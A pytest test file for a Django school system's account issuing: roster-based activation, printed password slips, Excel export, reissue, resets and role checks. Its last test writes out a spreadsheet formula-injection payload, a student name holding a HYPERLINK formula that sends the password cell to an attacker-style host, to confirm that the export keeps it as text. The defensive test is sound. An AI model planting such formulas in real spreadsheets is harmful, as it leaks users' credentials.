"""Issuing accounts from the roster: who gets one, the sheet, the Excel file, resets."""

from __future__ import annotations

import io
import logging
import re

import openpyxl
import pytest
from auditlog.models import LogEntry
from axes.models import AccessAttempt
from django.contrib.auth import authenticate
from django.test import Client, RequestFactory
from django.urls import reverse

from tests.conftest import sign_in
from tests.factories import make_user
from tests.people.roster_factories import (
    GuardianFactory,
    SchoolClassFactory,
    StaffFactory,
    StudentFactory,
)
from xinqiao.core.models import SecurityEvent, User
from xinqiao.people import accounts
from xinqiao.people.accounts import PASSWORD_ALPHABET, accounts_issue

pytestmark = pytest.mark.django_db

SHEET = reverse("people:account_sheet")


@pytest.fixture
def roster(cast):
    """Two new classes of 七年级 with three and two students, their guardians, two staff.

    One guardian (王家长) has a child in each class. The cast's own class and people (who
    already have accounts) sit beside them.
    """
    class_a = SchoolClassFactory(school=cast.school, grade=cast.grade, number=2)
    class_b = SchoolClassFactory(school=cast.school, grade=cast.grade, number=3)
    a = [StudentFactory(school_class=class_a, name=n) for n in ("张三", "李四", "赵五")]
    b = [StudentFactory(school_class=class_b, name=n) for n in ("钱六", "孙七")]
    guardians = [
        GuardianFactory(school=cast.school, name="张家长", children=[a[0]]),
        GuardianFactory(school=cast.school, name="王家长", children=[a[1], b[0]]),
        GuardianFactory(school=cast.school, name="孙家长", children=[b[1]]),
    ]
    staff = [StaffFactory(school=cast.school, name=n) for n in ("周老师", "吴老师")]
    StaffFactory(school=cast.school, name="退休老师", is_active=False)
    return {
        "class_a": class_a,
        "class_b": class_b,
        "a": a,
        "b": b,
        "guardians": guardians,
        "staff": staff,
    }


def can_sign_in(username: str, password: str) -> bool:
    request = RequestFactory().post("/accounts/sign-in/")
    return authenticate(request, username=username, password=password) is not None


def issue(client, school, **data):
    return client.post(SHEET, {"school": school.pk, **data})


def slips(response) -> dict[str, accounts.Slip]:
    """The sheet's slips by person's name (the passwords are only in the response)."""
    return {slip.holder.name: slip for group in response.context["groups"] for slip in group.slips}


def hidden_fields(body: str) -> dict[str, list[str]]:
    fields: dict[str, list[str]] = {}
    for name, value in re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', body):
        fields.setdefault(name, []).append(value)
    return fields


def refreshed(*records) -> list[User]:
    return [User.objects.get(pk=record.user_id) for record in records]


def test_initial_passwords_are_long_and_unambiguous():
    passwords = {accounts.generate_initial_password() for _ in range(200)}
    assert len(passwords) == 200
    for password in passwords:
        assert len(password) >= 10
        assert set(password) <= set(PASSWORD_ALPHABET)
        assert not set(password) & set("0Oo1lI")


def test_roster_people_start_without_an_issued_account(roster):
    user = roster["a"][0].user
    assert not user.is_active and not user.has_usable_password()
    assert not accounts.is_issued(user)


def test_issuing_a_class_activates_exactly_its_students(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"])

    assert response.status_code == 200
    issued = slips(response)
    assert set(issued) == {"张三", "李四", "赵五"}
    for user in refreshed(*roster["a"]):
        assert user.is_active and user.must_change_password
    for user in refreshed(*roster["b"], *roster["guardians"], *roster["staff"]):
        assert not user.is_active and not user.has_usable_password()
    passwords = [slip.password for slip in issued.values()]
    assert len(set(passwords)) == 3
    for slip in issued.values():
        assert can_sign_in(slip.holder.user.username, slip.password)
    events = SecurityEvent.objects.filter(kind=SecurityEvent.Kind.ACCOUNT_ISSUED)
    assert sorted(events.values_list("username", flat=True)) == sorted(
        s.user.username for s in roster["a"]
    )
    assert set(events.values_list("actor_username", flat=True)) == {"admin"}


def test_the_sheet_is_never_cached_and_names_everyone(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(
        client, cast.school, classes=[roster["class_a"].pk], kinds=["student", "guardian"]
    )
    assert "no-store" in response["Cache-Control"]
    body = response.content.decode()
    for name in ("张三", "李四", "赵五", "张家长", "王家长"):
        assert name in body
    assert body.count('data-testid="slip"') == 5
    assert body.count('data-testid="sheet-page"') == 1
    assert 'data-testid="print-button"' in body
    for slip in slips(response).values():
        assert slip.password in body and slip.holder.user.username in body


def test_guardians_are_issued_when_chosen_and_come_once(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(
        client,
        cast.school,
        classes=[roster["class_a"].pk, roster["class_b"].pk],
        kinds=["guardian"],
    )
    names = [slip.holder.name for group in response.context["groups"] for slip in group.slips]
    assert sorted(names) == ["孙家长", "张家长", "王家长"]
    assert [len(group.slips) for group in response.context["groups"]] == [2, 1]
    for user in refreshed(*roster["guardians"]):
        assert user.is_active and user.must_change_password
    for user in refreshed(*roster["a"], *roster["b"]):
        assert not user.is_active


def test_staff_in_service_are_issued(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(client, cast.school, staff="on")
    assert set(slips(response)) == {"周老师", "吴老师"}
    retired = User.objects.get(staff_record__name="退休老师")
    assert not retired.is_active


def test_already_issued_accounts_are_left_alone_without_reissue(client, cast, roster):
    sign_in(client, cast.admin)
    first = slips(issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"]))
    newcomer = StudentFactory(school_class=roster["class_a"], name="新同学")
    hashes = {u.pk: u.password for u in refreshed(*roster["a"])}

    second = issue(
        client, cast.school, classes=[roster["class_a"].pk, cast.school_class.pk], kinds=["student"]
    )

    # Only the newcomer: neither the class's issued students nor the cast's 何小明.
    assert set(slips(second)) == {"新同学"}
    assert {u.pk: u.password for u in refreshed(*roster["a"])} == hashes
    assert can_sign_in(first["张三"].holder.user.username, first["张三"].password)
    assert refreshed(newcomer)[0].is_active
    assert not User.objects.get(pk=cast.student.pk).must_change_password


def test_everyone_issued_already_is_a_message_and_the_choice_is_kept(client, cast, roster):
    sign_in(client, cast.admin)
    issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"])
    response = issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"])
    body = response.content.decode()
    assert response.status_code == 200
    assert 'data-testid="form-error"' in body
    assert f'value="{roster["class_a"].pk}" id="class-{roster["class_a"].pk}"' in body
    checkbox = body.split(f'data-testid="class-checkbox-{roster["class_a"].pk}"')[1]
    assert checkbox.lstrip().startswith("checked")


def test_a_class_without_a_kind_is_refused_and_nothing_is_issued(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(client, cast.school, classes=[roster["class_a"].pk])
    assert response.status_code == 200
    assert response.context["form"].errors["kinds"]
    assert not User.objects.filter(pk__in=[s.user_id for s in roster["a"]], is_active=True)


def test_an_empty_choice_is_refused(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(client, cast.school)
    assert response.context["form"].non_field_errors()
    assert not SecurityEvent.objects.filter(kind=SecurityEvent.Kind.ACCOUNT_ISSUED).exists()


def test_a_class_of_another_school_cannot_be_chosen(client, cast, roster):
    foreign = SchoolClassFactory(school=cast.other_school, grade__school=cast.other_school)
    student = StudentFactory(school_class=foreign)
    sign_in(client, cast.admin)
    response = issue(client, cast.school, classes=[foreign.pk], kinds=["student"])
    assert response.context["form"].errors["classes"]
    assert not refreshed(student)[0].is_active


def test_reissue_asks_for_confirmation_then_resets_everyone_chosen(client, cast, roster):
    sign_in(client, cast.admin)
    chosen = {"classes": [roster["class_a"].pk], "kinds": ["student"]}
    first = slips(issue(client, cast.school, **chosen))
    StudentFactory(school_class=roster["class_a"], name="新同学")
    salts = {u.pk: u.session_salt for u in refreshed(*roster["a"])}

    asked = issue(client, cast.school, reissue="on", **chosen)
    body = asked.content.decode()
    assert 'data-testid="reissue-confirmation"' in body
    assert 'data-total="4"' in body and 'data-reissued="3"' in body
    assert can_sign_in(first["张三"].holder.user.username, first["张三"].password)

    confirmed = client.post(SHEET, hidden_fields(body))  # the page's "yes" button
    second = slips(confirmed)
    assert set(second) == {"张三", "李四", "赵五", "新同学"}
    assert "no-store" in confirmed["Cache-Control"]
    for name in ("张三", "李四", "赵五"):
        username = first[name].holder.user.username
        assert not can_sign_in(username, first[name].password)
        assert can_sign_in(username, second[name].password)
    for user in refreshed(*roster["a"]):
        assert user.must_change_password and user.session_salt != salts[user.pk]
    assert SecurityEvent.objects.filter(kind=SecurityEvent.Kind.SIGNED_OUT_EVERYWHERE).count() == 3


def test_reloading_a_reissued_sheet_asks_again_instead_of_resetting_again(client, cast, roster):
    sign_in(client, cast.admin)
    chosen = {"classes": [roster["class_a"].pk], "kinds": ["student"], "reissue": "on"}
    token = issue(client, cast.school, **chosen).context["token"]
    sheet = slips(issue(client, cast.school, confirmation=token, **chosen))
    assert len(sheet) == 3

    reloaded = issue(client, cast.school, confirmation=token, **chosen)
    assert 'data-testid="reissue-confirmation"' in reloaded.content.decode()
    for slip in sheet.values():
        assert can_sign_in(slip.holder.user.username, slip.password)
    forged = issue(client, cast.school, confirmation="made-up", **chosen)
    assert 'data-testid="reissue-confirmation"' in forged.content.decode()


def test_issuing_twice_at_once_issues_nobody_twice(cast, roster):
    users = [s.user for s in roster["a"]]
    first = accounts_issue(actor=cast.admin, users=users)
    again = accounts_issue(actor=cast.admin, users=users)
    assert len(first) == 3 and again == []


def test_the_excel_file_has_one_sheet_per_class(client, cast, roster):
    sign_in(client, cast.admin)
    response = issue(
        client,
        cast.school,
        classes=[roster["class_a"].pk, roster["class_b"].pk],
        kinds=["student"],
        excel="on",
    )
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.sheetnames) == 2
    first, second = (list(ws.iter_rows(values_only=True)) for ws in workbook.worksheets)
    assert first[0] == ("学校", "班级", "类别", "姓名", "账号", "初始密码", "备注", "提示")
    assert [row[3] for row in first[1:]] == ["张三", "李四", "赵五"]
    assert [row[3] for row in second[1:]] == ["钱六", "孙七"]
    for row in first[1:] + second[1:]:
        assert row[0] == "第一中学"
        assert can_sign_in(row[4], row[5])


def test_passwords_are_kept_nowhere_but_the_response(client, cast, roster, caplog):
    sign_in(client, cast.admin)
    with caplog.at_level(logging.DEBUG):
        response = issue(
            client, cast.school, classes=[roster["class_a"].pk], kinds=["student", "guardian"]
        )
    passwords = [slip.password for slip in slips(response).values()]
    session = dict(client.session.items())
    history = list(LogEntry.objects.values_list("changes", flat=True))
    users = list(User.objects.values_list("password", flat=True))
    events = list(SecurityEvent.objects.values_list("username", "actor_username"))
    for password in passwords:
        assert password not in caplog.text
        assert password not in repr(session)
        assert all(password not in str(changes) for changes in history)
        assert all(password not in stored for stored in users)
        assert password not in repr(events)
        assert password not in repr(accounts.IssuedAccount(user=cast.admin, password=password))


def test_a_student_signing_in_with_the_issued_password_must_change_it(client, cast, roster):
    sign_in(client, cast.admin)
    slip = slips(issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"]))[
        "张三"
    ]
    student = Client()
    signed = student.post(
        reverse("core:login"),
        {"username": slip.holder.user.username, "password": slip.password},
    )
    assert signed.status_code == 302
    home = student.get(reverse("core:home"))
    assert home.status_code == 302 and home.url == reverse("core:password_change")
    changed = student.post(
        reverse("core:password_change"),
        {
            "old_password": slip.password,
            "new_password1": "my-own-secret-42",
            "new_password2": "my-own-secret-42",
        },
    )
    assert changed.status_code == 302 and changed.url == reverse("core:home")
    assert student.get(reverse("core:home")).status_code == 200
    assert not refreshed(roster["a"][0])[0].must_change_password


def test_the_issue_page_counts_accounts_per_class(client, cast, roster):
    accounts_issue(actor=cast.admin, users=[roster["a"][0].user, roster["guardians"][1].user])
    accounts_issue(actor=cast.admin, users=[roster["staff"][0].user])
    sign_in(client, cast.admin)
    response = client.get(reverse("people:account_issue"))
    assert response.status_code == 200
    rows = {c.pk: c for c in response.context["page"]}
    a, b = rows[roster["class_a"].pk], rows[roster["class_b"].pk]
    assert (a.students_issued, a.students_pending) == (1, 2)
    assert (a.guardians_issued, a.guardians_pending) == (1, 1)
    assert (b.students_issued, b.students_pending) == (0, 2)
    assert (b.guardians_issued, b.guardians_pending) == (1, 1)
    # The cast's class: 何小明 and his mother have accounts already.
    own = rows[cast.school_class.pk]
    assert (own.students_issued, own.students_pending) == (1, 0)
    assert (own.guardians_issued, own.guardians_pending) == (1, 0)
    assert response.context["staff_counts"] == {"total": 2, "issued": 1, "pending": 1}


def test_the_issue_page_filters_by_kind_and_class_and_pages(client, cast, roster):
    for number in range(4, 34):
        SchoolClassFactory(school=cast.school, grade=cast.grade, number=number)
    sign_in(client, cast.admin)
    url = reverse("people:account_issue")
    first = client.get(url, {"school": cast.school.pk})
    assert len(first.context["page"].object_list) == 30
    assert len(client.get(url, {"page": 2}).context["page"].object_list) == 3

    one = client.get(url, {"class": roster["class_b"].pk})
    assert [c.pk for c in one.context["page"]] == [roster["class_b"].pk]

    staff_only = client.get(url, {"kind": "staff"}).content.decode()
    assert 'data-testid="staff-row"' in staff_only
    assert 'data-testid="account-classes"' not in staff_only
    guardians = client.get(url, {"kind": "guardian"}).content.decode()
    assert 'data-testid="guardians-pending"' in guardians
    assert 'data-testid="students-pending"' not in guardians
    assert 'data-testid="staff-row"' not in guardians


def test_the_issue_page_says_so_when_there_is_no_school_yet(client):
    sign_in(client, make_user("admin"))
    response = client.get(reverse("people:account_issue"))
    assert response.status_code == 200
    assert 'data-testid="no-school"' in response.content.decode()


def test_the_issue_page_lists_the_chosen_schools_classes_only(client, cast, roster):
    foreign = SchoolClassFactory(school=cast.other_school, grade__school=cast.other_school)
    sign_in(client, cast.admin)
    url = reverse("people:account_issue")
    own = [c.pk for c in client.get(url, {"school": cast.school.pk}).context["page"]]
    other = [c.pk for c in client.get(url, {"school": cast.other_school.pk}).context["page"]]
    assert foreign.pk not in own and other == [foreign.pk]


def test_the_issue_page_takes_a_bounded_number_of_queries(
    client, cast, roster, django_assert_max_num_queries
):
    for number in range(4, 24):
        klass = SchoolClassFactory(school=cast.school, grade=cast.grade, number=number)
        StudentFactory(school_class=klass)
    sign_in(client, cast.admin)
    with django_assert_max_num_queries(20):
        response = client.get(reverse("people:account_issue"))
    assert len(response.context["page"].object_list) == 23


def test_a_lost_password_is_found_and_reset_on_a_one_person_slip(client, cast, roster):
    zhang = roster["a"][0]
    (issued,) = accounts_issue(actor=cast.admin, users=[zhang.user])
    session = Client()
    session.post(
        reverse("core:login"), {"username": zhang.user.username, "password": issued.password}
    )
    assert session.get(reverse("core:home")).status_code == 302  # the password step

    sign_in(client, cast.admin)
    found = client.get(reverse("people:account_search"), {"school": cast.school.pk, "q": "张"})
    assert [h.name for h in found.context["page"]] == ["张三", "张家长"]
    by_account = client.get(reverse("people:account_search"), {"q": zhang.user.username})
    assert [h.name for h in by_account.context["page"]] == ["张三"]

    response = client.post(reverse("people:account_reset", args=[zhang.user.pk]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    (slip,) = slips(response).values()
    assert slip.holder.name == "张三"
    assert response.content.decode().count('data-testid="slip"') == 1
    assert not can_sign_in(zhang.user.username, issued.password)
    assert can_sign_in(zhang.user.username, slip.password)
    assert refreshed(zhang)[0].must_change_password
    # Their session has ended: the next request is sent to sign in.
    ended = session.get(reverse("core:home"))
    assert ended.status_code == 302 and "/accounts/sign-in/" in ended.url
    assert SecurityEvent.objects.filter(
        kind=SecurityEvent.Kind.SIGNED_OUT_EVERYWHERE, username=zhang.user.username
    ).exists()


def test_a_reset_lifts_a_lockout(client, cast, roster):
    user = roster["a"][0].user
    AccessAttempt.objects.create(
        username=user.username,
        ip_address="10.0.0.1",
        user_agent="test",
        get_data="",
        post_data="",
        http_accept="",
        path_info="/accounts/sign-in/",
        failures_since_start=6,
    )
    sign_in(client, cast.admin)
    client.post(reverse("people:account_reset", args=[user.pk]))
    assert not AccessAttempt.objects.filter(username=user.username).exists()
    assert SecurityEvent.objects.filter(
        kind=SecurityEvent.Kind.UNLOCKED, username=user.username
    ).exists()


@pytest.mark.parametrize("who", ["principal", "admin"])
def test_only_roster_accounts_can_be_reset(client, cast, who):
    """Staff accounts outside the roster (the cast's principal, the admin) are not reset here."""
    sign_in(client, cast.admin)
    target = getattr(cast, who)
    response = client.post(reverse("people:account_reset", args=[target.pk]))
    assert response.status_code == 404
    assert User.objects.get(pk=target.pk).password == target.password


@pytest.mark.parametrize("role", ["principal", "director", "class_teacher", "student"])
def test_other_roles_cannot_issue_or_reset(client, cast, roster, role):
    sign_in(client, getattr(cast, role))
    assert client.get(reverse("people:account_issue")).status_code == 403
    response = issue(client, cast.school, classes=[roster["class_a"].pk], kinds=["student"])
    assert response.status_code == 403
    reset = client.post(reverse("people:account_reset", args=[roster["a"][0].user_id]))
    assert reset.status_code == 403
    assert not User.objects.filter(pk__in=[s.user_id for s in roster["a"]], is_active=True)


def test_a_name_that_looks_like_a_formula_is_text_in_the_excel_file(client, cast, roster):
    """Issue 12 item 4: the sheet with initial passwords never carries a live formula."""
    injected = '=HYPERLINK("http://evil.example/?p="&F2,"点击")'
    student = roster["a"][0]
    student.name = injected
    student.save()
    sign_in(client, cast.admin)
    response = issue(
        client, cast.school, classes=[roster["class_a"].pk], kinds=["student"], excel="on"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    (cell,) = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == injected]
    assert cell.data_type == "s"
